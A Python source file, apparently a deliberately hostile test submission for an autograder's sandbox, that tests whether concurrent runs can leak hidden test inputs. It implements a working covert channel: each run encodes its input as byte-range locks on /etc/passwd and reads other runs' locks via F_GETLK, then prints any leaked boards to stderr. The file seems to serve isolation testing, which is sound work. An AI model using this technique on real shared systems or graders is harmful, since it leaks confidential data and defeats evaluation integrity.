"""Hostile submission: a covert channel through file locks on the host's shared, read-only files.

Each run claims a slot (``flock`` on one of a few system files every sandbox sees), publishes
its input board there as byte-range read locks on ``/etc/passwd`` (far past its end, where any
range may be locked), then for a while reads every slot another run holds (``F_GETLK`` tells
who holds what) and prints ``LEAK <board>`` on stderr (which the feedback shows) for each board found. A visible case's run that
prints a hidden case's board has carried a hidden input to a student. Every refused lock call
is printed as ``REFUSED <call> <errno name>``. Its answer is always the same wrong one.
"""

import errno
import fcntl
import os
import struct
import sys
import time

SLOT_FILES = ("/etc/passwd", "/etc/group", "/etc/hosts", "/bin/sh", "/usr/bin/env", "/etc/os-release")
DATA = "/etc/passwd"
BASE = 1 << 30
SLOT_SPAN = 1 << 16
LENGTH_AT = 60000
READ_SECONDS = 2.5


def refused(call, exc):
    print(f"REFUSED {call} {errno.errorcode.get(exc.errno, exc.errno)}", flush=True)


def held_by_other(fd, start):
    """Whether another process holds a lock on the byte at ``start`` (F_GETLK asks for a write lock)."""
    query = struct.pack("hhqqi4x", fcntl.F_WRLCK, os.SEEK_SET, start, 1, 0)
    answer = fcntl.fcntl(fd, fcntl.F_GETLK, query)
    return struct.unpack("hhqqi4x", answer)[0] != fcntl.F_UNLCK


def publish(data_fd, message):
    for index, path in enumerate(SLOT_FILES):
        try:
            slot = os.open(path, os.O_RDONLY)
            fcntl.flock(slot, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError as exc:
            if exc.errno not in (errno.EWOULDBLOCK, errno.ENOENT):
                refused("flock", exc)
                return None
            continue
        base = BASE + index * SLOT_SPAN
        try:
            fcntl.lockf(data_fd, fcntl.LOCK_SH | fcntl.LOCK_NB, 1, base + LENGTH_AT + len(message))
            for position, value in enumerate(message):
                fcntl.lockf(data_fd, fcntl.LOCK_SH | fcntl.LOCK_NB, 1, base + position * 256 + value)
        except OSError as exc:
            refused("lockf", exc)
        return index
    return None


def read_slot(data_fd, index):
    base = BASE + index * SLOT_SPAN
    length = next((n for n in range(256) if held_by_other(data_fd, base + LENGTH_AT + n)), None)
    if length is None:
        return None
    values = [next((v for v in range(256) if held_by_other(data_fd, base + p * 256 + v)), 63) for p in range(length)]
    return bytes(values).decode("ascii", "replace")


def main():
    with open("input.txt", encoding="ascii") as source:
        board = "-".join(source.read().split()[1:])
    data_fd = os.open(DATA, os.O_RDONLY)
    mine = publish(data_fd, board.encode())
    seen = set()
    deadline = time.monotonic() + READ_SECONDS
    while time.monotonic() < deadline:
        for index, path in enumerate(SLOT_FILES):
            if index == mine:
                continue
            try:
                probe = os.open(path, os.O_RDONLY)
            except OSError:
                continue
            try:
                fcntl.flock(probe, fcntl.LOCK_SH | fcntl.LOCK_NB)
                os.close(probe)
                continue  # nobody holds this slot
            except OSError as exc:
                os.close(probe)
                if exc.errno != errno.EWOULDBLOCK:
                    refused("flock-probe", exc) if "flock-probe" not in seen else None
                    seen.add("flock-probe")
                    continue
            try:
                found = read_slot(data_fd, index)
            except OSError as exc:
                if "getlk" not in seen:
                    refused("getlk", exc)
                seen.add("getlk")
                continue
            if found and found not in seen:
                seen.add(found)
                print(f"LEAK {found}", file=sys.stderr, flush=True)  # stderr: the feedback shows it
        time.sleep(0.05)
    with open("output.txt", "w", encoding="ascii") as out:
        out.write("0\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
